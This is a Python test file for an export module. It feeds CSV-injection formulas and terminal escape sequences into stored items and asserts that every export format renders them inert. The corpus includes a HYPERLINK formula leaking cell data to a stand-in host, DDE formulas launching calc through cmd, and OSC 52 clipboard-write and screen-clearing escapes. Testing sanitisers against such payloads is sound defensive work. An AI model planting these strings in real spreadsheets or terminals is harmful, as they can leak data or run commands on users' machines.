"""Hostile model output in every export: no spreadsheet formula runs, no byte reaches a terminal raw.

A corpus of hostile strings (OWASP CSV-injection payloads, terminal escape sequences, bidi overrides) is put in
every text field of stored items; each export format is checked for what must never be in it, and the
lossless formats (JSON; the CSV's formula prefix) for reading back to the same text.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
from pathlib import Path

import pytest

from greentui.core.records import ItemScored
from greentui.store import SessionStore
from greentui.store.export import ITEM_CSV_COLUMNS, export_csv, export_json, import_json, read_items_csv
from greentui.text.listing import export_session
from greentui.untrusted import FORMULA_TRIGGERS, escape_controls, neutralize_formula, restore_formula
from tests.helpers.store_events import LiveSession

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'",
    "=",
]
ESCAPES = [
    "\x1b[2J\x1b[H cleared",  # clear screen, cursor home
    "\x1b]52;c;aGVsbG8gY2xpcGJvYXJk\x07",  # OSC 52: write the clipboard
    "\x1b]8;;http://evil.example\x1b\\innocent\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "bell\x07\x07",
    "nul\x00byte",
    "abc\u202edcba",  # right-to-left override
    "\x9b31mC1 CSI\x9d0;title\x9c",  # one-byte C1 CSI / OSC / ST
    "\u2066isolate\u2069 \u200fmark\u200e \u061c",
    "\x1bP+q\x1b\\ DCS",
    "back\x08space\x7fdel",
    '=HYPERLINK("x")\x1b[31m',  # formula and escape together
    "ok\nsecond line\twith a tab",  # newline and tab are kept (quoted by the CSV writer)
]
CORPUS = FORMULAS + ESCAPES
TEXT_FIELDS = ("prompt", "output", "answer", "reference", "item_id")

# Anything a terminal or a spreadsheet might act on, as code points.
_RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def _hostile_store(tmp_path: Path, payloads: list[str]) -> SessionStore:
    store = SessionStore(tmp_path / "g.db")
    writer = store.writer()
    n = 0
    for event in LiveSession("s-hostile", n_items=len(payloads), seed=3).events():
        if isinstance(event, ItemScored):
            payload = payloads[event.index]
            event = dataclasses.replace(
                event,
                prompt=f"prompt {payload}",
                output=payload,
                answer=payload,
                reference=payload,
                item_id=f"{event.item_id}{payload}",
            )
            n += 1
        writer.handle(event)
    writer.close()
    assert writer.error is None and n == 2 * len(payloads)
    return store


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> SessionStore:
    return _hostile_store(tmp_path_factory.mktemp("hostile"), CORPUS)


@pytest.mark.parametrize("payload", CORPUS, ids=range(len(CORPUS)))
def test_csv_cells_are_inert(hostile: SessionStore, payload: str) -> None:
    text = export_csv(hostile, "s-hostile")
    assert not _RAW.search(text.replace("\n", "").replace("\t", "")), "a raw control byte in the CSV"
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0]) == ITEM_CSV_COLUMNS
    mine = [row for row in rows if row["output"] == neutralize_formula(escape_controls(payload, keep="\n\t"))]
    assert len(mine) == 2, f"payload {payload!r} not found as the escaped, neutralized cell"
    for row in mine:
        for name in TEXT_FIELDS:
            cell = row[name]
            assert not cell.startswith(FORMULA_TRIGGERS), f"{name} starts like a formula: {cell!r}"
            assert not _RAW.search(cell.replace("\n", "").replace("\t", ""))


@pytest.mark.parametrize("payload", FORMULAS, ids=range(len(FORMULAS)))
def test_csv_formula_prefix_reads_back(hostile: SessionStore, payload: str) -> None:
    """The apostrophe is greentui's to take off: formulas (no control bytes) read back exactly."""
    back = read_items_csv(io.StringIO(export_csv(hostile, "s-hostile")))
    if "\r" in payload:  # a carriage return is escaped (one way), like every control character but \n and \t
        payload = escape_controls(payload, keep="\n\t")
    assert sum(item.output == payload for item in back) == 2


@pytest.mark.parametrize("payload", CORPUS, ids=range(len(CORPUS)))
def test_json_is_ascii_and_reimports_exactly(hostile: SessionStore, payload: str, tmp_path: Path) -> None:
    text = export_json(hostile, "s-hostile")
    assert text.isascii() and not _RAW.search(text.replace("\n", ""))
    data = json.loads(text)
    assert sum(item["output"] == payload for item in data["items"]) == 2
    other = SessionStore(tmp_path / "other.db")
    import_json(other, io.StringIO(text))
    assert other.items("s-hostile") == hostile.items("s-hostile")


def test_markdown_report_has_no_raw_control_bytes(tmp_path: Path) -> None:
    store = _hostile_store(tmp_path, CORPUS)
    store.save_verdict("s-hostile", {}, "\x1b]52;c;ZXZpbA==\x07 sentence \u202e")
    text = export_session(store, "s-hostile", "md")
    assert not _RAW.search(text.replace("\n", ""))


def test_csv_samples_device_names_are_inert(tmp_path: Path) -> None:
    from greentui.core.records import PowerSample, PowerSampled

    store = SessionStore(tmp_path / "g.db")
    writer = store.writer()
    live = LiveSession("s-dev", n_items=1)
    writer.handle(live.started())
    writer.handle(PowerSampled(PowerSample(1.0, "=evil()\x1b[2J", 3.0, "\x07src", "measured")))
    writer.close()
    text = export_csv(store, "s-dev", what="samples")
    assert "'=evil()\\x1b[2J" in text and "\\x07src" in text and not _RAW.search(text.replace("\n", ""))


@pytest.mark.parametrize("cell", ["=1", "'=1", "''", "plain", "", "-", "@", "\t", "'"])
def test_neutralize_and_restore_are_inverse(cell: str) -> None:
    assert restore_formula(neutralize_formula(cell)) == cell
    assert not neutralize_formula(cell).startswith(FORMULA_TRIGGERS)
